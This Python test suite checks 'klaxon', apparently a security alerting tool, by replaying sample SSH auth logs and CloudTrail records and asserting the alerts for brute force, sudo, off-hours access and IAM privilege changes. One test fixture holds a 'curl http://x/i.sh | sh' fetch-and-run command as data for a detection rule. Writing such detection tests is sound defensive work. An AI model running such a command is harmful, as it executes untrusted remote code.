"""klaxon replay through the real binary: the samples give exactly the expected alerts,
malformed input is counted and skipped, the off-hours rule is right across DST changes,
and bad rules are refused with file:line:col."""
import json
import os

from harness import KLAXON, SRC, alerts_of, check, replay, run_tests, tmpdir

CFG = os.path.join(SRC, "samples", "klaxon.yaml")
AUTH = os.path.join(SRC, "samples", "auth.log")
TRAIL = os.path.join(SRC, "samples", "cloudtrail.jsonl")

SSH_BRUTE = "6a2c9d14-3e7f-4b8a-8c5d-2e9f0a1b3c02"
SUDO_ROOT = "9b4e1f70-8c2d-4a6b-b1e3-5d7f9a0c2e03"
OFF_HOURS = "3d8f2a6b-1c4e-4f9a-a7b2-8e0d6c4f1a04"
IAM_ADMIN = "7e1a4c9d-2b5f-4d8e-9c3a-6f0b8d2e4a05"
NEW_SOURCE = "e6f1a0c2-7b3d-4c8e-9a51-3f2d8b7c6e10"
SPRAYING = "cb2e2473-7340-4e1c-95f8-98adc2f16319"


def new_source(user, ip, t):
    return (NEW_SOURCE, "info", "secops", "default", "unusual-access", {"user": user, "src_ip": ip}, 1,
            7776000, t, t, 1)


# (rule id, severity, team, tenant, category, group, count, window, first_seen, last_seen, n events)
EXPECTED_AUTH = [
    new_source("alice", "198.51.100.23", "2026-03-10T07:58:12.000Z"),
    (SUDO_ROOT, "warning", "platform", "default", "privilege-change", {}, 1, 0,
     "2026-03-10T08:15:40.000Z", "2026-03-10T08:15:40.000Z", 1),
    new_source("bob", "192.0.2.44", "2026-03-10T09:15:02.000Z"),
    (SSH_BRUTE, "error", "secops", "default", "credential-access", {"src_ip": "203.0.113.7"}, 5, 300,
     "2026-03-10T09:20:05.000Z", "2026-03-10T09:20:23.000Z", 5),
    (SPRAYING, "error", "secops", "default", "credential-access", {"src_ip": "203.0.113.7"}, 5, 600,
     "2026-03-10T09:20:05.000Z", "2026-03-10T09:20:23.000Z", 5),
    new_source("carol", "198.51.100.80", "2026-03-10T09:58:51.000Z"),
    new_source("carol", "192.0.2.77", "2026-03-11T01:14:07.000Z"),
    (OFF_HOURS, "warning", "secops", "default", "off-hours-access", {}, 1, 0,
     "2026-03-11T01:14:07.000Z", "2026-03-11T01:14:07.000Z", 1),
    (SUDO_ROOT, "warning", "platform", "default", "privilege-change", {}, 1, 0,
     "2026-03-11T01:16:44.000Z", "2026-03-11T01:16:44.000Z", 1),
    new_source("dave", "198.51.100.41", "2026-03-14T10:03:00.000Z"),
    (OFF_HOURS, "warning", "secops", "default", "off-hours-access", {}, 1, 0,
     "2026-03-14T10:03:00.000Z", "2026-03-14T10:03:00.000Z", 1),
]
EXPECTED_TRAIL = [
    (IAM_ADMIN, "error", "cloud-security", "111122223333", "privilege-change", {}, 1, 0,
     "2026-03-10T08:30:00.000Z", "2026-03-10T08:30:00.000Z", 1),
    (IAM_ADMIN, "error", "cloud-security", "444455556666", "privilege-change", {}, 1, 0,
     "2026-03-11T23:47:55.000Z", "2026-03-11T23:47:55.000Z", 1),
]
KEYS = ["id", "dedup_key", "rule", "severity", "team", "tenant", "category", "group", "count",
        "window", "first_seen", "last_seen", "status", "tags", "events"]
CONTEXT = ["description", "runbook", "author", "references", "falsepositives", "fields"]


def summary(a):
    return (a["rule"]["id"], a["severity"], a["team"], a["tenant"], a["category"], a["group"],
            a["count"], a["window"], a["first_seen"], a["last_seen"], len(a["events"]))


def run_replay(topic, path, extra=None, only=None):
    """The alerts of a replay (only those of the rule ids in `only`, when given)."""
    r = replay(["--config", CFG, "--topic", topic] + (extra or []) + [path])
    check(r.returncode == 0, "replay exit %d: %s" % (r.returncode, r.stderr.decode(errors="replace")))
    alerts = [a for a in alerts_of(r.stdout.decode()) if only is None or a["rule"]["id"] in only]
    return alerts, r.stderr.decode(errors="replace")


def test_samples_auth():
    alerts, _ = run_replay("auth", AUTH)
    got = [summary(a) for a in alerts]
    check(got == EXPECTED_AUTH, "auth alerts differ:\n got %s\nwant %s" % (got, EXPECTED_AUTH))
    for a in alerts:
        # The rule's context keys come after the tags, in this order, when the rule has them.
        ctx = [k for k in a.keys() if k in CONTEXT]
        check([k for k in a.keys() if k not in CONTEXT + ["local_time", "timezone", "value"]] == KEYS and
              ctx == [k for k in CONTEXT if k in ctx] and
              list(a.keys())[list(a.keys()).index("tags") + 1:][:len(ctx)] == ctx,
              "alert keys/order: %s" % list(a.keys()))
        check(len(a["dedup_key"]) == 32 and all(c in "0123456789abcdef" for c in a["dedup_key"]),
              "dedup_key %r" % a["dedup_key"])
    brute = [a for a in alerts if a["rule"]["id"] == SSH_BRUTE][0]
    check(brute["rule"] == {"id": SSH_BRUTE,
                            "title": "SSH brute force - 5 failed passwords from one source in 5 minutes",
                            "level": "high"}, "rule object %s" % brute["rule"])
    check(brute["tags"] == ["attack.credential-access", "attack.t1110.001"], "tags %s" % brute["tags"])
    # evidence: the five failures in time order, raw text and decoded fields
    ports = [e["fields"]["src_port"] for e in brute["events"]]
    check(ports == ["52144", "52150", "52158", "52163", "52170"], "evidence order %s" % ports)
    ev0 = brute["events"][0]
    check(ev0["raw"] == "Mar 10 09:20:05 web-01 sshd[20611]: Failed password for invalid user admin "
                       "from 203.0.113.7 port 52144 ssh2", "evidence raw %r" % ev0["raw"])
    check(ev0["fields"]["user"] == "admin" and ev0["fields"]["program"] == "sshd" and
          ev0["fields"]["host"] == "web-01" and ev0["fields"]["pid"] == "20611", "fields %s" % ev0["fields"])
    sudo = [a for a in alerts if a["rule"]["id"] == SUDO_ROOT][0]["events"][0]["fields"]
    check(sudo["user"] == "alice" and sudo["target_user"] == "root" and
          sudo["command"] == "/usr/bin/systemctl restart nginx", "sudo fields %s" % sudo)


def test_samples_cloudtrail():
    alerts, _ = run_replay("cloudtrail", TRAIL)
    got = [summary(a) for a in alerts]
    check(got == EXPECTED_TRAIL, "cloudtrail alerts differ:\n got %s\nwant %s" % (got, EXPECTED_TRAIL))
    f = alerts[0]["events"][0]["fields"]
    check(f["userIdentity.arn"] == "arn:aws:iam::111122223333:user/mallory", "arn %s" % f.get("userIdentity.arn"))
    check(f["requestParameters.policyArn"] == "arn:aws:iam::aws:policy/AdministratorAccess", "policy")
    check(f["readOnly"] is False, "typed bool field: %r" % f["readOnly"])


def test_replay_is_deterministic():
    a1, _ = run_replay("auth", AUTH)
    a2, _ = run_replay("auth", AUTH)
    check(a1 == a2, "two replays of the same log differ")
    keys = [a["dedup_key"] for a in a1]
    check(len(set(keys)) == len(keys), "dedup keys collide: %s" % keys)


def test_malformed_skipped():
    d = tmpdir("malformed")
    path = os.path.join(d, "mixed.jsonl")
    with open(TRAIL, "rb") as f:
        good = f.read().splitlines()
    bad = [b"{\"eventName\": \"AttachUserPolicy\", ", b"[1,2,3]", b"",
           b"{\"eventName\": \"\xff\xfe broken utf-8\"}", b"not json at all",
           b"{\"a\": \"" + b"x" * (10 * 1024 * 1024) + b"\"}", b"{\"nul\": \"a\\u0000b\"}"]
    lines = []
    for i, g in enumerate(good):
        lines.append(g)
        if i < len(bad):
            lines.append(bad[i])
    lines += bad[len(good):]
    with open(path, "wb") as f:
        f.write(b"\n".join(lines) + b"\n")
    alerts, err = run_replay("cloudtrail", path)
    got = [summary(a) for a in alerts]
    check(got == EXPECTED_TRAIL, "alerts changed by malformed input: %s" % got)
    # 5 malformed; the invalid UTF-8 and \u0000 events are decoded with U+FFFD instead
    check("klaxon: 5 malformed events skipped" in err, "stderr: %s" % err[-2000:])
    # bounded logging: at most 5 malformed lines logged per 10 s plus the summary
    check(err.count("malformed event skipped") <= 5, "malformed log not rate-limited")

    syslog = os.path.join(d, "mixed.log")
    with open(AUTH, "rb") as f:
        auth = f.read()
    with open(syslog, "wb") as f:
        f.write(b"<34>Oct 11 22:1\n\n" + auth + b"Mar 10 09:\n\xc3\x28 garbage\n")
    alerts, err = run_replay("auth", syslog)
    check([summary(a) for a in alerts] == EXPECTED_AUTH, "auth alerts changed by malformed input")
    check("malformed events skipped" in err, "malformed count missing: %s" % err[-1000:])


def test_off_hours_across_dst():
    alerts, _ = run_replay("auth", os.path.join(SRC, "tests", "fixtures", "dst", "auth.log"), only={OFF_HOURS})
    got = [(a["rule"]["id"], a["first_seen"]) for a in alerts]
    # 06:30Z Fri 27 Mar = 07:30 CET (out); 07:30Z = 08:30 CET (in)
    # 05:30Z Mon 30 Mar = 07:30 CEST (out); 06:30Z = 08:30 CEST (in)
    # 17:30Z Fri 23 Oct = 19:30 CEST (out); 17:30Z Mon 26 Oct = 18:30 CET (in)
    want = [(OFF_HOURS, "2026-03-27T06:30:00.000Z"), (OFF_HOURS, "2026-03-30T05:30:00.000Z"),
            (OFF_HOURS, "2026-10-23T17:30:00.000Z")]
    check(got == want, "DST alerts: got %s want %s" % (got, want))
    # Each says when it happened where the rule's window is judged, with that day's offset.
    local = [(a["local_time"], a["timezone"]) for a in alerts]
    check(local == [("2026-03-27T07:30:00+01:00", "Europe/Madrid"),
                    ("2026-03-30T07:30:00+02:00", "Europe/Madrid"),
                    ("2026-10-23T19:30:00+02:00", "Europe/Madrid")], "local times: %s" % local)


def test_year_from_the_files_time():
    """RFC 3164 lines carry no year: replay takes it from the file's modification time (when
    its last line was written), never from today, and never dates a line after it. Last
    December's logs read this December: Fri 5 Dec 2025 11:00 Madrid is office hours (5 Dec
    2026 is a Saturday), Sat 6 Dec is not, and the line after New Year is the next year's."""
    d = tmpdir("year")
    with open(CFG) as f:
        cfg = f.read().replace("year: 2026 ", "year: auto ")
    check("year: auto" in cfg, "the samples config pins no year any more?")
    cfg_path = os.path.join(d, "klaxon.yaml")
    with open(cfg_path, "w") as f:
        f.write(cfg.replace("  - ../rules", "  - %s" % os.path.join(SRC, "rules")))
    log = os.path.join(d, "auth.log")
    with open(log, "w") as f:
        f.write("Dec  5 10:00:00 web-01 sshd[7]: Accepted password for bob from 192.0.2.4 port 5 ssh2\n"
                "Dec  6 10:00:00 web-01 sshd[8]: Accepted password for bob from 192.0.2.4 port 6 ssh2\n"
                "Jan  1 00:00:05 web-01 sshd[9]: Accepted password for bob from 192.0.2.4 port 7 ssh2\n")
    mtime = 1767268800  # 2026-01-01T12:00:00Z
    os.utime(log, (mtime, mtime))
    r = replay(["--config", cfg_path, "--topic", "auth", log])
    check(r.returncode == 0, "exit %d: %s" % (r.returncode, r.stderr))
    got = [(a["rule"]["id"], a["first_seen"]) for a in alerts_of(r.stdout.decode())
           if a["rule"]["id"] == OFF_HOURS]
    check(got == [(OFF_HOURS, "2025-12-06T10:00:00.000Z"), (OFF_HOURS, "2026-01-01T00:00:05.000Z")],
          "alerts: %s" % got)
    check(b"ahead of its arrival" not in r.stderr, "replay replaced an event time: %s" % r.stderr)


def test_bruteforce_out_of_order():
    """The brute force arriving in reverse time order is still detected, once: the first
    window of five failures that a late event completes is reported, and the overlapping
    windows the other late events complete are part of the same burst. (In time order the
    window is 09:20:05-09:20:23; reversed, 09:20:14-09:20:31 is completed first.)"""
    d = tmpdir("ooo")
    with open(AUTH) as f:
        fails = [l for l in f if "Failed password" in l and "203.0.113.7" in l]
    check(len(fails) == 7, "sample has %d failures from 203.0.113.7" % len(fails))
    path = os.path.join(d, "reversed.log")
    with open(path, "w") as f:
        f.writelines(reversed(fails))
    alerts, _ = run_replay("auth", path, only={SSH_BRUTE})
    got = [(a["rule"]["id"], a["group"], a["count"], a["first_seen"][11:19], a["last_seen"][11:19])
           for a in alerts]
    want = [(SSH_BRUTE, {"src_ip": "203.0.113.7"}, 5, "09:20:14", "09:20:31")]
    check(got == want, "reversed brute force: got %s" % got)


def test_large_events_still_alert():
    """Evidence too large for the store (100 KB lines in a correlation) or for an alert
    (a 5 MB CloudTrail record) shrinks; the alerts are raised all the same."""
    d = tmpdir("large")
    cfg = os.path.join(d, "klaxon.yaml")
    with open(CFG) as f:
        text = f.read().replace("  - ../rules", "  - %s" % os.path.join(SRC, "rules"))
    with open(cfg, "w") as f:
        f.write(text + "limits:\n  max_event_bytes: 16777216\n  evidence_bytes: 8388608\n")
    with open(AUTH) as f:
        fails = [l.rstrip("\n") + " " + "A" * 100000 + "\n" for l in f
                 if "Failed password" in l and "203.0.113.7" in l]
    auth = os.path.join(d, "auth.log")
    with open(auth, "w") as f:
        f.writelines(fails)
    r = replay(["--config", cfg, "--topic", "auth", auth])
    check(r.returncode == 0, "exit %d: %s" % (r.returncode, r.stderr[-500:]))
    alerts = [a for a in alerts_of(r.stdout.decode()) if a["rule"]["id"] != SPRAYING]
    check([(a["rule"]["id"], a["count"]) for a in alerts] == [(SSH_BRUTE, 5)],
          "large brute force: %s" % [(a["rule"]["id"], a["count"]) for a in alerts])
    with open(TRAIL) as f:
        rec = json.loads(f.read().splitlines()[1])
    rec["padding"] = "B" * (5 * 1024 * 1024)
    trail = os.path.join(d, "trail.jsonl")
    with open(trail, "w") as f:
        f.write(json.dumps(rec) + "\n")
    r = replay(["--config", cfg, "--topic", "cloudtrail", trail])
    check(r.returncode == 0, "exit %d" % r.returncode)
    alerts = alerts_of(r.stdout.decode())
    check([a["rule"]["id"] for a in alerts] == [IAM_ADMIN], "large record alerts: %s" % alerts)
    check(alerts[0]["events"] == [], "evidence should have been cut: %d" % len(alerts[0]["events"]))


def test_bad_rule_refused():
    d = tmpdir("badrule")
    path = os.path.join(d, "bad.yml")
    with open(path, "w") as f:
        f.write("title: typo\nlogsource:\n    product: linux\ndetection:\n    selection:\n"
                "        user|contians: root\n    condition: selection\n")
    r = replay(["--rules", path, AUTH])
    check(r.returncode == 2, "exit %d" % r.returncode)
    err = r.stderr.decode()
    check(err.startswith("klaxon: %s:6:9: " % path) and "contians" in err, "stderr: %r" % err)
    check(r.stdout == b"", "alerts written despite bad rules")


def test_rules_lint():
    import subprocess
    from harness import KLAXON
    r = subprocess.run([KLAXON, "rules", "lint", os.path.join(SRC, "rules")], capture_output=True)
    check(r.returncode == 0, "lint exit %d: %s" % (r.returncode, r.stderr))
    check(r.stdout == b"ok: 19 rules (12 detection, 7 correlation)\n", "lint output %r" % r.stdout)
    d = tmpdir("lint")
    path = os.path.join(d, "corr.yml")
    with open(path, "w") as f:
        f.write("title: c\ncorrelation:\n    type: event_count\n    rules: [nosuchrule]\n"
                "    group-by: [src_ip]\n    timespan: 5m\n    condition: {gte: 3}\n")
    r = subprocess.run([KLAXON, "rules", "lint", path], capture_output=True)
    check(r.returncode == 2, "lint exit on bad rule %d" % r.returncode)
    want = '%s:4:13: correlation references unknown rule "nosuchrule"\n1 error, 0 warnings\n' % path
    check(r.stdout.decode() == want, "lint stdout %r" % r.stdout)


def test_stdin_and_json_default():
    with open(TRAIL, "rb") as f:
        data = f.read()
    r = replay(["--rules", os.path.join(SRC, "rules"), "-"], stdin=data)
    check(r.returncode == 0, "exit %d: %s" % (r.returncode, r.stderr.decode()))
    alerts = alerts_of(r.stdout.decode())
    # without the config there is no logsource (product aws) for the events, so the
    # logsource-scoped AWS rule cannot match: the config is what maps topics to sources.
    check(alerts == [], "unexpected alerts without logsource: %s" % [a["rule"]["id"] for a in alerts])


def test_rule_context_in_alerts():
    """A rule's description, runbook, references, falsepositives and the values of its
    `fields` reach the alert; replay never marks alerts as backfill."""
    d = tmpdir("context")
    rule = os.path.join(d, "r.yml")
    with open(rule, "w") as f:
        f.write("title: Curl piped to a shell\nid: 7d0ec3e0-0000-4000-8000-000000000001\n"
                "description: Someone downloads a script and runs it at once.\n"
                "runbook: https://wiki.example/runbooks/curl-pipe\n"
                "references: [https://attack.mitre.org/techniques/T1059/004/]\n"
                "falsepositives: [installers, \"a 'curl | sh' in docs\"]\n"
                "fields: [user, cmd, missing_field]\n"
                "logsource: {product: linux}\n"
                "detection:\n  sel: {cmd|contains: '| sh'}\n  condition: sel\nlevel: high\n")
    events = b'{"user": "bob", "cmd": "curl http://x/i.sh | sh", "time": "2026-03-29T01:30:00Z"}\n'
    cfg = os.path.join(d, "c.yaml")
    with open(cfg, "w") as f:
        f.write("rules:\n  - %s\ninputs:\n  - {topic: t, format: json, logsource: {product: linux}}\n" % rule)
    r = replay(["--config", cfg, "--topic", "t", "-"], stdin=events)
    check(r.returncode == 0, "exit %d: %s" % (r.returncode, r.stderr.decode()))
    alerts = alerts_of(r.stdout.decode())
    check(len(alerts) == 1, "alerts: %s" % alerts)
    a = alerts[0]
    check(a["description"] == "Someone downloads a script and runs it at once.", "description")
    check(a["runbook"] == "https://wiki.example/runbooks/curl-pipe", "runbook")
    check(a["references"] == ["https://attack.mitre.org/techniques/T1059/004/"], "references")
    check(a["falsepositives"] == ["installers", "a 'curl | sh' in docs"], "falsepositives")
    check(a["fields"] == {"user": "bob", "cmd": "curl http://x/i.sh | sh"}, "fields: %s" % a.get("fields"))
    check(a["status"] == "firing" and "backfill" not in a, "status/backfill: %s" % a)


def test_reader_gone():
    """`klaxon replay | head`: once the reader closes the pipe, replay finishes (the alerts it
    cannot write are dead-lettered, not retried forever) instead of waiting to drain."""
    import subprocess
    d = tmpdir("reader-gone")
    rule = os.path.join(d, "r.yml")
    with open(rule, "w") as f:
        f.write("title: Every event\nid: 7d0ec3e0-0000-4000-8000-000000000002\n"
                "logsource: {}\n"
                "detection:\n  sel: {msg: x}\n  condition: sel\nlevel: low\n")
    # ~2 MB of alerts: more than a pipe holds, so replay is still writing when the reader goes.
    events = "".join('{"n": %d, "msg": "x", "time": "2026-03-29T01:30:00Z"}\n' % i
                     for i in range(3000)).encode()
    inp = os.path.join(d, "events.jsonl")
    with open(inp, "wb") as f:
        f.write(events)
    errpath = os.path.join(d, "stderr")
    with open(errpath, "wb") as errf:
        p = subprocess.Popen([KLAXON, "replay", "--rules", rule, inp], stdout=subprocess.PIPE,
                             stderr=errf)
        check(p.stdout.read(1) == b"{", "no alert came")
        p.stdout.close()
        try:
            p.wait(timeout=60)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
            check(False, "replay kept running after its reader went away")
    with open(errpath, "rb") as f:
        err = f.read()
    check(p.returncode == 0, "exit %d" % p.returncode)
    check(b"Broken pipe" in err, "no word of the broken pipe: %s" % err.decode(errors="replace")[:500])

if __name__ == "__main__":
    run_tests([test_rule_context_in_alerts, test_samples_auth, test_samples_cloudtrail, test_replay_is_deterministic,
               test_malformed_skipped, test_off_hours_across_dst, test_year_from_the_files_time,
               test_bruteforce_out_of_order,
               test_large_events_still_alert, test_bad_rule_refused, test_rules_lint, test_stdin_and_json_default,
               test_reader_gone])
